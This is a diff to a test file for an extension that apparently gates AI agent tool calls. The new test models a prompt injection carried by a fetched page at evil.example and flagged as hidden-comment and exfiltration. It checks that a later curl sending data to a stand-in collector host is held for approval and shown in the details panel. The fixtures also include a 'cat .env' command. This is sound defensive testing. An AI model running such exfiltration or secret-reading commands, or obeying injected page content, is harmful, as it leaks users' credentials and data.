@@ -9,7 +9,7 @@ import { SuiteRunner } from '../../src/core/policy/testing';
 import { entryFromEvent, type DecisionEntry } from '../../src/extension/model/decisions';
 import { detailsCsp, detailsHtml, testCaseYaml } from '../../src/extension/model/details';
 import { builtinPolicy } from '../../src/runtime/builtin';
-import { decisionEvent, HOME, PROJECT } from '../vscode/support/events';
+import { decisionEvent, HOME, PROJECT, taintedDecisionEvent } from '../vscode/support/events';
 
 const assets = { cspSource: 'https://ext.test', nonce: 'NONCE123', styleUri: 'https://ext.test/media/details.css', scriptUri: 'https://ext.test/media/details.js' };
 const entry = (tool: string, input: unknown): DecisionEntry => entryFromEvent(decisionEvent(tool, input))!;
@@ -27,6 +27,22 @@ describe('extension: details panel', () => {
     assert.ok(html.includes(`id="policy">builtin:baseline 1.0.0<`));
     assert.ok(html.includes(`id="event-id">${e.id}<`));
     assert.match(html, /<button id="request-exception" data-action="requestException" title="Ask for a temporary exception \(at most 1h\)">/);
+  });
+
+  it('shows the content signals behind a decision: the session taint and the audit event of the read that caused it', () => {
+    const read = '01M7ZZREADEVENT0000000000';
+    const taint = [{ kind: 'injection' as const, tool: 'WebFetch', source: 'https://evil.example/page', at: new Date(0).toISOString(), eventId: read, signals: ['hidden-comment', 'exfiltration'], severity: 'high' }];
+    const e = entryFromEvent(taintedDecisionEvent('Bash', { command: 'curl -s https://collector.example.net/c?d=hello' }, taint))!;
+    assert.equal(e.effect, 'ask');
+    assert.deepEqual(e.ruleIds, ['session.tainted-network']);
+    assert.equal(e.signals.length, 1);
+    const html = detailsHtml(e, assets);
+    assert.match(html, /<h2>Content signals<\/h2>/);
+    assert.match(html, /taint: injection \(high\)/);
+    assert.ok(html.includes('hidden-comment, exfiltration'));
+    assert.ok(html.includes(`event <code>${read}</code>`));
+    assert.ok(html.includes('from WebFetch https://evil.example/page'));
+    assert.ok(!detailsHtml(entry('Bash', { command: 'cat .env' }), assets).includes('Content signals'), 'no section without signals');
   });
 
   it('has a strict content security policy: no inline script or style, one nonce, no network', () => {
